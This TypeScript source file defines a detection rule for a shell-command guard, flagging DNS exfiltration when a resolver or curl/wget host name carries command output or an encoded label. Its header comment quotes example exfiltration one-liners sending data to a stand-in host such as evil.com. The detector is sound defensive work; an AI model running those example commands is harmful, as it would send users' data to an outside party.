import { Severity } from "../../../gen/guard/v1/types_pb.js";
import { ruleModule } from "../commands/rules/dispatch.js";
import { type Hit, hitOn, operands, pushHit } from "../commands/rules/types.js";
import type { Invocation } from "../commands/shell/analyze.js";

/**
 * Data smuggled out in names to resolve: `dig $(whoami).evil.com`, `nslookup <base32>.x.com`,
 * `curl http://$(cat f | base64).evil.com`. The resolver forwards the name to whoever runs
 * the zone, so a lookup is a send. Matched when a host name carries command output or a label
 * too long and too random to be a real host name.
 */

export const RESOLVERS: ReadonlySet<string> = new Set([
  "dig",
  "nslookup",
  "host",
  "drill",
  "kdig",
  "delv",
  "resolvectl",
  "getent",
  "ping",
  "ping6",
  "traceroute",
]);

/** A DNS label that looks like encoded data: long, drawn from an encoding alphabet, with digits. */
export function encodedLabel(label: string): boolean {
  if (label.length < 24 || label.length > 63) return false;
  if (!/^[A-Za-z0-9_-]+$/.test(label)) return false;
  const digits = label.replace(/[^0-9]/g, "").length;
  return digits >= 3 && digits < label.length;
}

function hostOf(arg: string): string {
  const scheme = arg.indexOf("://");
  const rest = scheme === -1 ? arg : arg.slice(scheme + 3);
  const end = rest.search(/[/:?#]/);
  return end === -1 ? rest : rest.slice(0, end);
}

function namesOf(inv: Invocation): { text: string; dynamic: boolean }[] {
  if (RESOLVERS.has(inv.name)) {
    return inv.argWords
      .filter((w) => !w.text.startsWith("-") && !w.text.startsWith("@"))
      .map((w) => ({ text: w.text, dynamic: w.substitutions.length > 0 }));
  }
  if (inv.name === "curl" || inv.name === "wget") {
    return inv.argWords
      .filter((w) => /^[a-z]+:\/\//i.test(w.text))
      .map((w) => {
        const host = hostOf(w.text);
        return { text: host, dynamic: host.includes("$(") || host.includes("`") };
      });
  }
  return [];
}

/** The names `inv` looks up: `namesOf`, but none for a `getent` database other than hosts. */
export function resolvedNames(inv: Invocation): { text: string; dynamic: boolean }[] {
  return inv.name === "getent" && operands(inv.args)[0] !== "hosts" ? [] : namesOf(inv);
}

/** The verdict on one command: the first host name it resolves that carries data. */
function dnsSend(inv: Invocation): Hit | undefined {
  for (const name of resolvedNames(inv)) {
    if (name.dynamic && name.text.includes("."))
      return hitOn(inv, "dns-substitution", Severity.HIGH, 0.85, "command output placed in a host name");
    if (name.text.split(".").some(encodedLabel))
      return hitOn(inv, "dns-encoded-label", Severity.MEDIUM, 0.6, "encoded data in a host name");
  }
  return undefined;
}

export const dnsExfiltration = ruleModule({
  name: "dns",
  commands: [{ programs: [...RESOLVERS, "curl", "wget"], check: (inv, hits) => pushHit(hits, dnsSend(inv)) }],
});
